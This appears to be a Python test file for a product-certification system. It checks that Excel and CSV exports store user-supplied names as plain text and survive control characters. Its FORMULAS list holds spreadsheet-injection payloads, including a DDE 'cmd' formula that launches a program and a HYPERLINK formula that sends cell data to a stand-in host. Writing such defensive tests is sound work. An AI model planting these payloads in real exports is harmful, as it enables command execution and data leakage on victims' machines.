"""Every spreadsheet cell written from user data is text that Excel never runs, and holds only
what a workbook can hold: one bad name never fails a report (issue 9, "Output")."""

import base64
import csv
import io
from datetime import date
from io import BytesIO
from pathlib import Path
from typing import Any

from openpyxl import load_workbook
from sqlalchemy import select, update

from notices.sheet_cells import csv_field
from notifiers.sending import dispatch
from notifiers.settings import NotifierSettings
from states.db.models import OutboxMessage, Producer, Product
from states.runtime import Runtime
from tests.builders import advance, register
from tests.conftest import at
from use_cases import schedules
from use_cases.campaigns import close_campaign, open_campaign, propose_revocation

FORMULAS = ["=HYPERLINK(\"http://x.invalid/?\"&A1,\"Bấm vào\")", "=1+2+cmd|' /C calc'!A0",
            "+84 912 345 678", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "#N/A"]


def _rows(content: bytes) -> list[tuple[Any, ...]]:
    sheet = load_workbook(BytesIO(content)).worksheets[0]
    return list(sheet.iter_rows(min_row=4))


def test_revocation_list_holds_formulas_as_text(rt: Runtime, tmp_path: Path) -> None:
    at(rt, date(2020, 3, 2))
    ids = [register(rt, name=f"Sản phẩm {n}", producer=f"Chủ thể {n}")
           for n in range(len(FORMULAS))]
    for dossier_id in ids:
        advance(rt, dossier_id, "certified")
    with rt.transaction() as session:  # names as an import or an older version may have left them
        for dossier_id, formula in zip(ids, FORMULAS, strict=True):
            session.execute(update(Producer).where(Producer.name == f"Chủ thể {ids.index(dossier_id)}")
                            .values(name=formula))
    at(rt, date(2022, 9, 5))
    campaign_id = open_campaign(rt, "admin", "revocation", date(2022, 10, 15)).campaign_id
    for dossier_id, formula in zip(ids, FORMULAS, strict=True):
        propose_revocation(rt, "admin", campaign_id, dossier_id, "other", formula)
    closed = close_campaign(rt, "admin", campaign_id, tmp_path)
    rows = _rows(Path(closed.file).read_bytes())
    assert len(rows) == len(FORMULAS)
    for row, formula in zip(rows, FORMULAS, strict=True):
        producer, note = row[4], row[8]
        for cell in (producer, note):  # (XML reads a carriage return back as a newline)
            assert (cell.value, cell.data_type, cell.quotePrefix) == (
                formula.replace("\r", "\n"), "s", True)
    # What is not formula-like is written as before: numbers stay numbers, text stays plain.
    assert (rows[0][1].data_type, rows[0][3].quotePrefix) == ("n", False)


def test_one_bad_name_never_fails_the_weekly_report(rt: Runtime, tmp_path: Path) -> None:
    at(rt, date(2022, 3, 1))
    bad = register(rt, name="Gà đồi")
    register(rt, name="Vải thiều")
    with rt.transaction() as session:
        session.execute(update(Product).where(Product.name == "Gà đồi")
                        .values(name="Gà\x01 đồi\x1b[31m\x0b \ufffe"))
    at(rt, date(2022, 6, 1))
    assert schedules.stuck_report(rt).queued == 1
    with rt.transaction() as session:
        report = session.scalar(select(OutboxMessage).where(OutboxMessage.kind == "stuck_report"))
    assert report is not None
    content = base64.b64decode(report.attachments[0]["content_b64"])
    products = {row[3].value: row[4].value for row in _rows(content)}
    assert products[bad] == "Gà đồi[31m "
    assert set(products.values()) == {"Gà đồi[31m ", "Vải thiều"}
    # ... and the mail carrying it leaves (the file transport writes it as .eml).
    dispatch(rt.db, NotifierSettings(outbox_dir=tmp_path))
    with rt.transaction() as session:
        assert session.get(OutboxMessage, report.id).status == "sent"  # type: ignore[union-attr]
    assert list(tmp_path.glob("*.eml"))


def test_open_data_csv_keeps_formulas_as_text() -> None:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([csv_field(v) for v in [*FORMULAS, "Gà đồi", 4, "a\x00b"]])
    [row] = list(csv.reader(io.StringIO(out.getvalue())))
    assert row[:len(FORMULAS)] == ["'" + f for f in FORMULAS]
    assert row[len(FORMULAS):] == ["Gà đồi", "4", "ab"]
